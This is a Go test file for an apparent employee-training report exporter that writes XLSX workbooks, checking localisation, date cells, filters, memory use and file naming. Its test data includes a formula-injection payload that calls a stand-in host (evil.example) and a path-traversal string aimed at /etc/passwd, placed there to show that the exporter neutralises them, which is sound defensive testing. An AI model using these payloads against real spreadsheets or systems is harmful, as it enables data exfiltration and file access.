package reports

import (
	"archive/zip"
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"iter"
	"math"
	"os"
	"os/exec"
	"regexp"
	"runtime/metrics"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

func berlin(t testing.TB) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// writeXLSX writes rows and opens the result with excelize, as a reader
// of the file would.
func writeXLSX(t testing.TB, r XLSXReport, loc *time.Location, rows []XLSXRow) (*excelize.File, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, r, loc, slices.Values(rows)); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("produced file does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, buf.Bytes()
}

// zipPart returns one part of the xlsx package.
func zipPart(t *testing.T, file []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(name)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// autoFilterRef is the range of the sheet's autofilter, without the "$"
// that excelize writes (absolute and relative references mean the same
// range there).
func autoFilterRef(sheetXML string) string {
	m := regexp.MustCompile(`<autoFilter ref="([^"]*)"`).FindStringSubmatch(sheetXML)
	if m == nil {
		return ""
	}
	return strings.ReplaceAll(m[1], "$", "")
}

// excelSerial is the spreadsheet's day number of a calendar date (1900
// date system; day 0 is 1899-12-30 for every date after February 1900).
func excelSerial(y int, m time.Month, d int) string {
	days := time.Date(y, m, d, 0, 0, 0, 0, time.UTC).Sub(time.Date(1899, 12, 30, 0, 0, 0, 0, time.UTC)).Hours() / 24
	return strconv.Itoa(int(days))
}

func cell(t *testing.T, f *excelize.File, sheet, ref string, opts ...excelize.Options) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, ref, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func rowValues(t *testing.T, f *excelize.File, sheet string, row int) []string {
	t.Helper()
	var out []string
	for c := 1; c <= numCols; c++ {
		ref, _ := excelize.CoordinatesToCellName(c, row)
		out = append(out, cell(t, f, sheet, ref))
	}
	return out
}

// checkDateCell asserts that ref is a number with the date format whose
// value is the given day.
func checkDateCell(t *testing.T, f *excelize.File, sheet, ref, format string, y int, m time.Month, d int) {
	t.Helper()
	if raw := cell(t, f, sheet, ref, excelize.Options{RawCellValue: true}); raw != excelSerial(y, m, d) {
		t.Errorf("%s raw value %q, want serial %s (%d-%02d-%02d)", ref, raw, excelSerial(y, m, d), y, m, d)
	}
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	// Dates in xlsx are numbers (no t attribute, or t="n") with a date format.
	if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("%s has cell type %v, want a number", ref, typ)
	}
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.CustomNumFmt == nil || *st.CustomNumFmt != format {
		t.Errorf("%s number format %v, want %q", ref, st.CustomNumFmt, format)
	}
}

func TestWriteXLSXGerman(t *testing.T) {
	loc := berlin(t)
	rows := []XLSXRow{
		{Name: "Zoë Ångström", Email: "zoe@example.com", Department: "Vertrieb", Course: "KI am Arbeitsplatz",
			Status: Overdue, DueAt: time.Date(2026, 11, 30, 22, 59, 59, 0, time.UTC)}, // 23:59:59 in Berlin
		{Name: `=HYPERLINK("http://evil.example/?x="&A1,"Klick")`, Email: "+49@example.com", Department: "-Vertrieb",
			Course: "KI am Arbeitsplatz", Status: Passed, PassedAt: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC),
			ValidUntil: time.Date(2028, 2, 29, 23, 30, 0, 0, time.UTC), // 1 March in Berlin
			DueAt:      time.Date(2026, 6, 30, 12, 0, 0, 0, time.UTC), CertificateID: "@cert-1"},
		{Name: "Neu Eingeladen", Email: "neu@example.com", Department: "Vertrieb", Course: "KI am Arbeitsplatz",
			Status: "invited", InvitedAt: time.Date(2026, 12, 1, 8, 0, 0, 0, time.UTC)},
		{Name: "Anna Beispiel", Email: "anna@example.com", Department: "Vertrieb", Status: NotStarted},
		{Name: "Bernd Beispiel", Email: "bernd@example.com", Department: "Vertrieb", Status: InProgress},
		{Name: "Clara Beispiel", Email: "clara@example.com", Department: "Vertrieb", Status: Expired,
			ValidUntil: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)},
	}
	scope := ScopeText(messages(), "de", len(rows), "Vertrieb", "überfällig")
	generated := time.Date(2026, 12, 3, 6, 45, 0, 0, time.UTC)
	f, file := writeXLSX(t, XLSXReport{Messages: messages(), Lang: "de", Scope: scope, GeneratedAt: generated}, loc, rows)

	if got := f.GetSheetList(); !slices.Equal(got, []string{"Bericht"}) {
		t.Fatalf("sheets %q", got)
	}
	const sh = "Bericht"
	if got := cell(t, f, sh, "A1"); got != "Vertrieb, überfällig, 6 Personen" {
		t.Errorf("A1 %q", got)
	}
	if got := cell(t, f, sh, "A2"); got != "Stand: 03.12.2026, 07:45 Uhr (Europe/Berlin)" {
		t.Errorf("A2 %q", got)
	}
	if got := cell(t, f, sh, "A3"); got != "" {
		t.Errorf("A3 should be empty, is %q", got)
	}
	wantHeader := []string{"Name", "E-Mail", "Abteilung", "Kurs", "Status", "Eingeladen am", "Bestanden am", "Gültig bis", "Fällig am", "Zertifikat-ID"}
	if got := rowValues(t, f, sh, 4); !slices.Equal(got, wantHeader) {
		t.Errorf("header %q,\nwant %q", got, wantHeader)
	}
	want := [][]string{
		{"Zoë Ångström", "zoe@example.com", "Vertrieb", "KI am Arbeitsplatz", "Überfällig", "", "", "", "30.11.2026", ""},
		{`=HYPERLINK("http://evil.example/?x="&A1,"Klick")`, "+49@example.com", "-Vertrieb", "KI am Arbeitsplatz", "Bestanden",
			"", "01.03.2026", "01.03.2028", "30.06.2026", "@cert-1"},
		{"Neu Eingeladen", "neu@example.com", "Vertrieb", "KI am Arbeitsplatz", "Eingeladen", "01.12.2026", "", "", "", ""},
		{"Anna Beispiel", "anna@example.com", "Vertrieb", "", "Nicht begonnen", "", "", "", "", ""},
		{"Bernd Beispiel", "bernd@example.com", "Vertrieb", "", "In Bearbeitung", "", "", "", "", ""},
		{"Clara Beispiel", "clara@example.com", "Vertrieb", "", "Abgelaufen", "", "", "01.01.2026", "", ""},
	}
	for i, w := range want {
		if got := rowValues(t, f, sh, 5+i); !slices.Equal(got, w) {
			t.Errorf("row %d %q,\nwant %q", 5+i, got, w)
		}
	}
	if rows, _ := f.GetRows(sh); len(rows) != 4+len(want) {
		t.Errorf("%d rows in the sheet, want %d", len(rows), 4+len(want))
	}

	// Dates are date cells holding the day in Berlin, not text.
	checkDateCell(t, f, sh, "I5", "dd.mm.yyyy", 2026, 11, 30)
	checkDateCell(t, f, sh, "G6", "dd.mm.yyyy", 2026, 3, 1)
	checkDateCell(t, f, sh, "H6", "dd.mm.yyyy", 2028, 3, 1)
	checkDateCell(t, f, sh, "F7", "dd.mm.yyyy", 2026, 12, 1)

	// Formula injection: the cell is a typed string without a formula, and
	// the whole sheet has no formula element at all.
	for _, ref := range []string{"A6", "B6", "C6", "J6"} {
		if typ, _ := f.GetCellType(sh, ref); typ != excelize.CellTypeInlineString {
			t.Errorf("%s cell type %v, want an inline string", ref, typ)
		}
		if fo, _ := f.GetCellFormula(sh, ref); fo != "" {
			t.Errorf("%s has the formula %q", ref, fo)
		}
		id, _ := f.GetCellStyle(sh, ref)
		if st, _ := f.GetStyle(id); st == nil || st.NumFmt != 49 {
			t.Errorf("%s is not formatted as text: %+v", ref, st)
		}
	}
	sheetXML := zipPart(t, file, "xl/worksheets/sheet1.xml")
	if strings.Contains(sheetXML, "<f>") || strings.Contains(sheetXML, "<f ") {
		t.Error("the sheet contains a formula")
	}

	// Autofilter over the header row and all rows, with its defined name.
	if got := autoFilterRef(sheetXML); got != "A4:J10" {
		t.Errorf("autofilter %q, want A4:J10", got)
	}
	var filterName bool
	for _, d := range f.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" && strings.Contains(d.RefersTo, "Bericht") && strings.Contains(d.RefersTo, "$A$4:$J$10") {
			filterName = true
		}
	}
	if !filterName {
		t.Errorf("no filter database name: %+v", f.GetDefinedName())
	}

	// Frozen down to the header row.
	panes, err := f.GetPanes(sh)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 4 || panes.XSplit != 0 || panes.TopLeftCell != "A5" {
		t.Errorf("panes %+v, want frozen after row 4", panes)
	}

	for c, wantW := range xlsxWidths {
		name, _ := excelize.ColumnNumberToName(c + 1)
		if got, _ := f.GetColWidth(sh, name); got != wantW {
			t.Errorf("column %s width %v, want %v", name, got, wantW)
		}
	}
	if p, err := f.GetDocProps(); err != nil || p.Creator != "kipass" {
		t.Errorf("creator %+v %v", p, err)
	}
}

func TestWriteXLSXEnglish(t *testing.T) {
	rows := []XLSXRow{
		{Name: "Ann Example", Email: "ann@example.com", Department: "Sales", Course: "AI in the workplace", Status: "invited",
			InvitedAt: time.Date(2026, 12, 2, 23, 30, 0, 0, time.UTC)},
		{Name: "Bob Example", Email: "bob@example.com", Department: "Sales", Course: "AI in the workplace", Status: Passed,
			PassedAt: time.Date(2026, 5, 4, 10, 0, 0, 0, time.UTC), ValidUntil: time.Date(2027, 5, 4, 10, 0, 0, 0, time.UTC),
			DueAt: time.Date(2027, 5, 4, 10, 0, 0, 0, time.UTC), CertificateID: "c-2"},
		{Name: "Cy Example", Status: "unknown_status"},
	}
	ny, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Fatal(err)
	}
	generated := time.Date(2026, 12, 3, 6, 45, 0, 0, time.UTC)
	f, _ := writeXLSX(t, XLSXReport{Messages: messages(), Lang: "en", Scope: ScopeText(messages(), "en", 3, "Sales"), GeneratedAt: generated}, ny, rows)
	if got := f.GetSheetList(); !slices.Equal(got, []string{"Report"}) {
		t.Fatalf("sheets %q", got)
	}
	const sh = "Report"
	if got := cell(t, f, sh, "A1"); got != "Sales, 3 people" {
		t.Errorf("A1 %q", got)
	}
	if got := cell(t, f, sh, "A2"); got != "As of 3 December 2026, 01:45 (America/New_York)" {
		t.Errorf("A2 %q", got)
	}
	wantHeader := []string{"Name", "Email", "Department", "Course", "Status", "Invited on", "Passed on", "Valid until", "Due on", "Certificate ID"}
	if got := rowValues(t, f, sh, 4); !slices.Equal(got, wantHeader) {
		t.Errorf("header %q", got)
	}
	want := [][]string{
		// 23:30 UTC on 2 December is still 2 December in New York.
		{"Ann Example", "ann@example.com", "Sales", "AI in the workplace", "Invited", "2026-12-02", "", "", "", ""},
		{"Bob Example", "bob@example.com", "Sales", "AI in the workplace", "Passed", "", "2026-05-04", "2027-05-04", "2027-05-04", "c-2"},
		// An unknown status is shown as it is rather than hidden.
		{"Cy Example", "", "", "", "unknown_status", "", "", "", "", ""},
	}
	for i, w := range want {
		if got := rowValues(t, f, sh, 5+i); !slices.Equal(got, w) {
			t.Errorf("row %d %q,\nwant %q", 5+i, got, w)
		}
	}
	checkDateCell(t, f, sh, "F5", "yyyy-mm-dd", 2026, 12, 2)
	checkDateCell(t, f, sh, "H6", "yyyy-mm-dd", 2027, 5, 4)
}

func TestWriteXLSXNoRows(t *testing.T) {
	t.Run("with scope", func(t *testing.T) {
		f, file := writeXLSX(t, XLSXReport{Messages: messages(), Lang: "de", Scope: ScopeText(messages(), "de", 0, "Vertrieb", "überfällig")}, berlin(t), nil)
		if got := cell(t, f, "Bericht", "A1"); got != "Vertrieb, überfällig, 0 Personen" {
			t.Errorf("A1 %q", got)
		}
		if got := rowValues(t, f, "Bericht", 3); got[0] != "Name" || got[9] != "Zertifikat-ID" {
			t.Errorf("header %q", got)
		}
		if rows, _ := f.GetRows("Bericht"); len(rows) != 3 {
			t.Errorf("%d rows, want scope, empty row and header", len(rows))
		}
		if got := autoFilterRef(zipPart(t, file, "xl/worksheets/sheet1.xml")); got != "A3:J3" {
			t.Errorf("autofilter %q, want the header row A3:J3", got)
		}
		if p, _ := f.GetPanes("Bericht"); !p.Freeze || p.YSplit != 3 {
			t.Errorf("panes %+v", p)
		}
	})
	t.Run("without scope", func(t *testing.T) {
		f, file := writeXLSX(t, XLSXReport{Messages: messages(), Lang: "en"}, nil, nil)
		if got := rowValues(t, f, "Report", 1); got[0] != "Name" {
			t.Errorf("header not in row 1: %q", got)
		}
		if got := autoFilterRef(zipPart(t, file, "xl/worksheets/sheet1.xml")); got != "A1:J1" {
			t.Errorf("autofilter %q, want the header row A1:J1", got)
		}
		if p, _ := f.GetPanes("Report"); !p.Freeze || p.YSplit != 1 || p.TopLeftCell != "A2" {
			t.Errorf("panes %+v", p)
		}
	})
	t.Run("multi-line scope", func(t *testing.T) {
		f, _ := writeXLSX(t, XLSXReport{Messages: messages(), Lang: "en", Scope: "Sales\r\nsearch: \"ann\""}, nil, nil)
		if a1, a2 := cell(t, f, "Report", "A1"), cell(t, f, "Report", "A2"); a1 != "Sales" || a2 != `search: "ann"` {
			t.Errorf("scope lines %q %q", a1, a2)
		}
		if got := cell(t, f, "Report", "A4"); got != "Name" {
			t.Errorf("header not in row 4: %q", got)
		}
	})
}

// failingWriter fails after n bytes.
type failingWriter struct{ n int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		n := w.n
		w.n = 0
		return n, errors.New("disk full")
	}
	w.n -= len(p)
	return len(p), nil
}

func TestWriteXLSXWriterError(t *testing.T) {
	for _, n := range []int{0, 100, 5000} {
		err := WriteXLSX(&failingWriter{n: n}, XLSXReport{Messages: messages(), Lang: "de", Scope: "x"}, nil, slices.Values(make([]XLSXRow, 2000)))
		if err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("after %d bytes: %v, want the writer's error", n, err)
		}
	}
}

func TestWriteXLSXTooManyRows(t *testing.T) {
	// The limit is Excel's million rows; the sheet writer takes it as a
	// parameter so that this test does not need a million rows.
	r := XLSXReport{Messages: messages(), Scope: "x", GeneratedAt: time.Now()} // header in row 4
	for _, tc := range []struct {
		scope       string
		rows, max   int
		wantTooMany bool
	}{
		{"x", 6, 10, false},
		{"x", 7, 10, true},
		{strings.Repeat("line\n", 20), 0, 10, true},
	} {
		f := excelize.NewFile()
		r.Scope = tc.scope
		err := writeSheet(f, wordsFor(messages().Printer("de", nil)), r, time.UTC, slices.Values(make([]XLSXRow, tc.rows)), tc.max)
		f.Close()
		if got := errors.Is(err, ErrTooManyRows); got != tc.wantTooMany {
			t.Errorf("%d rows, limit %d: %v", tc.rows, tc.max, err)
		}
	}
}

// xmlSafe is what a text cell holds after the round trip: characters XML
// 1.0 cannot hold, and invalid UTF-8, become U+FFFD.
func xmlSafe(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		r, w := utf8.DecodeRuneInString(s[i:])
		i += w
		ok := r == 0x09 || r == 0x0A || r == 0x0D || r >= 0x20 && r <= 0xD7FF || r >= 0xE000 && r <= 0xFFFD || r >= 0x10000 && r <= 0x10FFFF
		if !ok || r == utf8.RuneError && w == 1 {
			r = '\uFFFD'
		}
		b.WriteRune(r)
	}
	return b.String()
}

// FuzzXLSXText: whatever a name or department holds, the file opens and
// the cell holds the same text, as a string and never a formula.
func FuzzXLSXText(f *testing.F) {
	for _, s := range []string{"=1+1", `=HYPERLINK("http://x","y")`, "+49 30", "-1", "@SUM(A1)", "\tTab", "\rCR", " lead",
		"trail ", "a\nb", "<b>&amp;</b>", "_x0041_", "\x00\x01\x1f", "\xff\xfe", "\uFFFE", "Zoë 😀", "]]>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 2000 {
			return // the 32,767-character cell limit is excelize's, not ours
		}
		var buf bytes.Buffer
		err := WriteXLSX(&buf, XLSXReport{Messages: messages(), Lang: "de", Scope: s}, nil, slices.Values([]XLSXRow{{Name: s, Department: s, Status: s}}))
		if err != nil {
			t.Fatal(err)
		}
		x, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatalf("%q: file does not open: %v", s, err)
		}
		defer x.Close()
		header := 1
		if s != "" {
			header = len(strings.Split(strings.ReplaceAll(s, "\r\n", "\n"), "\n")) + 2
		}
		for _, col := range []string{"A", "C", "E"} {
			ref := col + strconv.Itoa(header+1)
			got, err := x.GetCellValue("Bericht", ref)
			if err != nil {
				t.Fatal(err)
			}
			if want := xmlSafe(s); got != want {
				t.Fatalf("%s: %q, want %q", ref, got, want)
			}
			if fo, _ := x.GetCellFormula("Bericht", ref); fo != "" {
				t.Fatalf("%q became the formula %q", s, fo)
			}
		}
	})
}

// bigRows yields n rows like a large company's report, without keeping
// them: the caller's rows are not what is being measured.
func bigRows(n int) iter.Seq[XLSXRow] {
	statuses := []string{Passed, Overdue, NotStarted, InProgress, Expired, "invited"}
	base := time.Date(2026, 1, 1, 9, 0, 0, 0, time.UTC)
	return func(yield func(XLSXRow) bool) {
		for i := range n {
			r := XLSXRow{
				Name:       fmt.Sprintf("Person %06d Beispiel-Mustermann", i),
				Email:      fmt.Sprintf("person%06d@example.com", i),
				Department: fmt.Sprintf("Abteilung %02d", i%20),
				Course:     "KI am Arbeitsplatz",
				Status:     statuses[i%len(statuses)],
				DueAt:      base.AddDate(0, 0, i%365),
			}
			if r.Status == Passed || r.Status == Expired {
				r.PassedAt = base.AddDate(0, 0, -(i % 700))
				r.ValidUntil = r.PassedAt.AddDate(1, 0, 0)
				r.CertificateID = fmt.Sprintf("urn:uuid:%08x-0000-4000-8000-%012x", i, i)
			}
			if r.Status == "invited" {
				r.InvitedAt = base.AddDate(0, 0, i%30)
			}
			if !yield(r) {
				return
			}
		}
	}
}

// xlsxChildEnv makes the test binary a child that writes a large file and
// reports its cost (see TestXLSXLarge).
const xlsxChildEnv = "KIPASS_XLSX_CHILD_ROWS"

// TestXLSXLarge writes 100,000 rows (KIPASS_XLSX_ROWS to change) in a
// child process, so that the child's peak resident memory (VmHWM) is the
// writer's and not the test binary's, checks that the file is complete,
// and logs time and memory for docs/PERFORMANCE.md:
//
//	go test ./internal/reports -run TestXLSXLarge -v
//
// Only memory is asserted (the 200 MB of issue 15); time is logged, never
// asserted, because the machine is shared.
func TestXLSXLarge(t *testing.T) {
	if n := os.Getenv(xlsxChildEnv); n != "" {
		xlsxChild(t, n)
		return
	}
	if raceDetector {
		t.Skip("measures memory and time, which the race detector multiplies: run it without -race (docs/PERFORMANCE.md)")
	}
	if testing.Short() {
		t.Skip("writes 100,000 rows in a child process")
	}
	rows := 100000
	if v := os.Getenv("KIPASS_XLSX_ROWS"); v != "" {
		var err error
		if rows, err = strconv.Atoi(v); err != nil {
			t.Fatal(err)
		}
	}
	out, spool := t.TempDir()+"/large.xlsx", t.TempDir()
	cmd := exec.Command(os.Args[0], "-test.run=^TestXLSXLarge$", "-test.v")
	cmd.Env = append(os.Environ(), xlsxChildEnv+"="+strconv.Itoa(rows), "KIPASS_XLSX_OUT="+out, "KIPASS_XLSX_SPOOL="+spool)
	b, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("child: %v\n%s", err, b)
	}
	m := regexp.MustCompile(`XLSX rows=(\d+) bytes=(\d+) seconds=([\d.]+) vmhwm_kb=(\d+) heap_peak_mb=([\d.]+)`).FindStringSubmatch(string(b))
	if m == nil {
		t.Fatalf("no measurement in the child's output:\n%s", b)
	}
	t.Logf("%d rows: %s bytes in %s s, peak RSS (VmHWM) %s kB, peak live heap (sampled) %s MB", rows, m[2], m[3], m[4], m[5])
	if hwm, _ := strconv.Atoi(m[4]); hwm > 200*1000 {
		t.Errorf("peak memory %d kB, over the 200 MB of issue 15", hwm)
	}
	// The sheet was spooled to a temporary file (that is what keeps memory
	// flat), and the file is gone.
	if !strings.Contains(string(b), "spooled=true") && rows >= 100000 {
		t.Errorf("the sheet was not spooled to TempDir:\n%s", b)
	}
	if left, err := os.ReadDir(spool); err != nil || len(left) > 0 {
		t.Errorf("temporary files left: %v %v", left, err)
	}

	// The file is complete: every row is there, the last one last. (The
	// sheet's XML is checked directly: reading 100,000 rows back through
	// excelize takes longer than writing them.)
	file, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	sheet := zipPart(t, file, "xl/worksheets/sheet1.xml")
	// Scope, "as of" and header lines, then the rows; the empty row 3 has
	// no element.
	if got, want := strings.Count(sheet, "<row "), rows+3; got != want {
		t.Errorf("%d rows in the file, want %d", got, want)
	}
	last := sheet[strings.LastIndex(sheet, "<row "):]
	if !strings.HasPrefix(last, `<row r="`+strconv.Itoa(rows+4)+`"`) || !strings.Contains(last, fmt.Sprintf("Person %06d Beispiel-Mustermann", rows-1)) {
		t.Errorf("last row %.300s", last)
	}
	if got := autoFilterRef(sheet); got != "A4:J"+strconv.Itoa(rows+4) {
		t.Errorf("autofilter %q", got)
	}
}

// xlsxChild writes the rows to KIPASS_XLSX_OUT and prints the measurement.
func xlsxChild(t *testing.T, rowsEnv string) {
	rows, err := strconv.Atoi(rowsEnv)
	if err != nil {
		t.Fatal(err)
	}
	out, err := os.Create(os.Getenv("KIPASS_XLSX_OUT"))
	if err != nil {
		t.Fatal(err)
	}
	bw := bufio.NewWriter(out)
	cw := &countingWriter{w: bw}
	loc, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Fatal(err)
	}
	// The runtime keeps no peak of the heap: sample the live heap while
	// writing.
	done, peak := make(chan struct{}), make(chan uint64)
	go func() {
		sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		var peakHeap uint64
		tick := time.NewTicker(5 * time.Millisecond)
		defer tick.Stop()
		for {
			metrics.Read(sample)
			peakHeap = max(peakHeap, sample[0].Value.Uint64())
			select {
			case <-done:
				peak <- peakHeap
				return
			case <-tick.C:
			}
		}
	}()
	start := time.Now()
	spool := os.Getenv("KIPASS_XLSX_SPOOL")
	spooled := false
	watch := func(yield func(XLSXRow) bool) {
		i := 0
		for r := range bigRows(rows) {
			if !yield(r) {
				return
			}
			// Look now and then, so that looking costs nothing measurable.
			if i++; !spooled && i%1000 == 0 {
				if files, _ := os.ReadDir(spool); len(files) > 0 {
					spooled = true
				}
			}
		}
	}
	err = WriteXLSX(cw, XLSXReport{Messages: messages(), Lang: "de", Scope: ScopeText(messages(), "de", rows), GeneratedAt: start, TempDir: spool}, loc, watch)
	if err == nil {
		err = bw.Flush()
	}
	if err == nil {
		err = out.Close()
	}
	elapsed := time.Since(start)
	close(done)
	heap := <-peak
	if err != nil {
		t.Fatal(err)
	}
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Fatal(err)
	}
	hwm := regexp.MustCompile(`VmHWM:\s+(\d+) kB`).FindSubmatch(status)
	if hwm == nil {
		t.Fatal("no VmHWM")
	}
	fmt.Printf("XLSX rows=%d bytes=%d seconds=%.2f vmhwm_kb=%s heap_peak_mb=%.1f spooled=%t\n", rows, cw.n, elapsed.Seconds(), hwm[1],
		math.Round(float64(heap)/1e5)/10, spooled)
}

// BenchmarkWriteXLSX writes 10,000 rows per operation to a discarding
// writer: go test ./internal/reports -run '^$' -bench WriteXLSX -benchmem
func BenchmarkWriteXLSX(b *testing.B) {
	loc := berlin(b)
	for b.Loop() {
		cw := &countingWriter{w: io.Discard}
		if err := WriteXLSX(cw, XLSXReport{Messages: messages(), Lang: "de", Scope: "alle"}, loc, bigRows(10000)); err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(cw.n), "file-bytes")
	}
}

func TestScopeText(t *testing.T) {
	for _, tc := range []struct {
		lang    string
		n       int
		filters []string
		want    string
	}{
		{"de", 6, []string{"Vertrieb", "überfällig"}, "Vertrieb, überfällig, 6 Personen"},
		{"de", 1, []string{"Vertrieb", "", "  "}, "Vertrieb, 1 Person"},
		{"de", 0, nil, "Alle, 0 Personen"},
		{"en", 6, []string{"Sales", "overdue"}, "Sales, overdue, 6 people"},
		{"en", 1, nil, "Everyone, 1 person"},
		{"fr", 2, nil, "Everyone, 2 people"},
		{"de-AT", 2, nil, "Alle, 2 Personen"},
	} {
		if got := ScopeText(messages(), tc.lang, tc.n, tc.filters...); got != tc.want {
			t.Errorf("ScopeText(%q, %d, %q) = %q, want %q", tc.lang, tc.n, tc.filters, got, tc.want)
		}
	}
}

func TestStatusLabel(t *testing.T) {
	for _, tc := range []struct{ lang, status, want string }{
		{"de", Passed, "Bestanden"},
		{"de", Overdue, "Überfällig"},
		{"de", "invited", "Eingeladen"},
		{"de", NotStarted, "Nicht begonnen"},
		{"en", "invited", "Invited"},
		{"en", Expired, "Expired"},
		{"", InProgress, "In progress"},
		{"de", "something", "something"},
	} {
		if got := StatusLabel(messages(), tc.lang, tc.status); got != tc.want {
			t.Errorf("StatusLabel(%q, %q) = %q, want %q", tc.lang, tc.status, got, tc.want)
		}
	}
}

func TestFileName(t *testing.T) {
	day := time.Date(2026, 12, 3, 0, 30, 0, 0, berlin(t)) // 2 December in UTC
	for _, tc := range []struct {
		ext   string
		scope []string
		want  string
	}{
		{"xlsx", []string{"Vertrieb", "überfällig"}, "kipass-report-vertrieb-ueberfaellig-2026-12-03.xlsx"},
		{"xlsx", nil, "kipass-report-2026-12-03.xlsx"},
		{"csv", []string{"Außendienst Süd/Ost", "", "Überfällig"}, "kipass-report-aussendienst-sued-ost-ueberfaellig-2026-12-03.csv"},
		{"pdf", []string{`../../etc/passwd"; x=`, "Crème brûlée", "Łódź"}, "kipass-report-etc-passwd-x-creme-brulee-odz-2026-12-03.pdf"},
		{"xlsx", []string{"Отдел продаж", "!!!"}, "kipass-report-2026-12-03.xlsx"},
		{".XLSX", []string{"KI am Arbeitsplatz", "Suche: müller"}, "kipass-report-ki-am-arbeitsplatz-suche-mueller-2026-12-03.xlsx"},
		{"xlsx", []string{strings.Repeat("Abteilung ", 10)}, "kipass-report-abteilung-abteilung-abteilung-abteilung-2026-12-03.xlsx"},
		{"xlsx", []string{strings.Repeat("x", 60)}, "kipass-report-" + strings.Repeat("x", 40) + "-2026-12-03.xlsx"},
	} {
		got := FileName(tc.ext, day, tc.scope...)
		if got != tc.want {
			t.Errorf("FileName(%q, %q) = %q, want %q", tc.ext, tc.scope, got, tc.want)
		}
		if !regexp.MustCompile(`^[a-z0-9-]+\.[a-z0-9]+$`).MatchString(got) {
			t.Errorf("%q has unsafe characters", got)
		}
	}
}

func FuzzFileName(f *testing.F) {
	for _, s := range []string{"Vertrieb", "ü", "a/b\\c", "\x00", "---", "é"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := FileName("xlsx", time.Date(2026, 12, 3, 0, 0, 0, 0, time.UTC), s, s)
		if !regexp.MustCompile(`^kipass-report(-[a-z0-9]+)*-2026-12-03\.xlsx$`).MatchString(got) {
			t.Fatalf("%q gave %q", s, got)
		}
		if len(got) > len("kipass-report--2026-12-03.xlsx")+2*(maxNamePart+1) {
			t.Fatalf("%q gave a long name %q", s, got)
		}
	})
}

// A handler collects the rows of the current view, states the scope in the
// first line and in the file name, and writes the workbook.
func ExampleWriteXLSX() {
	loc, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		panic(err)
	}
	now := time.Date(2026, 12, 3, 7, 0, 0, 0, time.UTC)
	rows := []XLSXRow{{Name: "Anna Beispiel", Email: "anna@example.com", Department: "Vertrieb",
		Course: "KI am Arbeitsplatz", Status: Overdue, DueAt: time.Date(2026, 11, 30, 22, 59, 59, 0, time.UTC)}}
	status := strings.ToLower(StatusLabel(messages(), "de", Overdue))
	scope := ScopeText(messages(), "de", len(rows), "Vertrieb", status)
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, XLSXReport{Messages: messages(), Lang: "de", Scope: scope, GeneratedAt: now}, loc, slices.Values(rows)); err != nil {
		panic(err)
	}
	fmt.Println(FileName("xlsx", now.In(loc), "Vertrieb", status))
	fmt.Println(scope)
	// Output:
	// kipass-report-vertrieb-ueberfaellig-2026-12-03.xlsx
	// Vertrieb, überfällig, 1 Person
}
